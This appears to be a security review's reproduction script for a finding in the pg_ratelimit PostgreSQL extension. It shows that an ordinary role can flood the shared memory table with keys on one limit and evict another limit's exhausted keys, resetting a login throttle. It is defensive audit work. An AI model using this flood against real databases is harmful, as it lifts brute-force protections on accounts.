#!/usr/bin/env bash
# Finding 18 (medium-high, availability/abuse): any login role, with nothing but the default EXECUTE that
# PUBLIC has on rate_limit_request_many, resets every memory key of every limit (and, with f17, of every
# database) in one statement of well under a second: a batch of distinct keys on ANY memory limit with a
# long period fills the shared table, and inserting into a full partition evicts the least recently used
# entries that are not back at full capacity (core/memory_table.hpp MemoryTable::insert -> evict; the
# table is one pool shared by all limits, memory_state.cpp table_shape). The victims' keys start over at
# full capacity: a login throttle keyed by account or address is lifted at will. The WARNING goes to the
# attacker's session. (2 x the table's capacity keys; 57,344 keys took 0.19 s at memory_keys = 20000.)
# Expected: a flood through one limit cannot evict another limit's consumption (e.g. a per-limit quota,
# or new keys refused rather than consumption forgotten).
# Needs the server started with shared_preload_libraries = 'pg_ratelimit'.
source "$(dirname "$0")/lib.sh"
setup_review review_f18_attacker

units() { q -c "SELECT d.remaining + d.allowed::int FROM rate_limit_check('$1', '$2') AS d"; }
q -c "SELECT rate_limit_define('login', 3, '1 hour', storage => 'memory')" \
  -c "SELECT rate_limit_define('search', 100, '1 day', storage => 'memory')" >/dev/null || exit 2
q -c "SELECT count(*) FROM rate_limit_request_many(array_fill('alice'::text, ARRAY[3]), 'login')" >/dev/null
[ "$(units alice login)" = 0 ] || { echo "setup did not exhaust the victim's key"; exit 2; }
capacity=$(q -c "SELECT capacity FROM rate_limit_memory_usage()")
keys=$((capacity * 2))
echo "victim alice on 'login': 0 units left; table capacity $capacity entries; attacker sends $keys keys on 'search'"

start=$(date +%s%N)
out=$(psql -X -q -At -d "$REVIEW_DB" -U review_f18_attacker -c \
    "SELECT count(*) FROM rate_limit_request_many(ARRAY(SELECT 'flood' || g FROM generate_series(1, $keys) g), 'search')" 2>&1)
elapsed_ms=$((($(date +%s%N) - start) / 1000000))
echo "attacker's statement (${elapsed_ms} ms): $out" | head -n 3
after=$(units alice login)
# The flood's entries would stay in the server's table after the database is dropped (f17): drop the limit.
q -c "SELECT rate_limit_drop('search')" >/dev/null
echo "victim alice on 'login' afterwards: $after units; $(q -c "SELECT 'evicted_not_full=' || evicted_not_full FROM rate_limit_memory_usage()")"
[ "$after" != 0 ] && reproduced "an ordinary role's one batch on another limit evicted the victim's exhausted key ($after of 3 units again, ${elapsed_ms} ms)"
holds "a flood of keys on one limit leaves another limit's consumption in place"
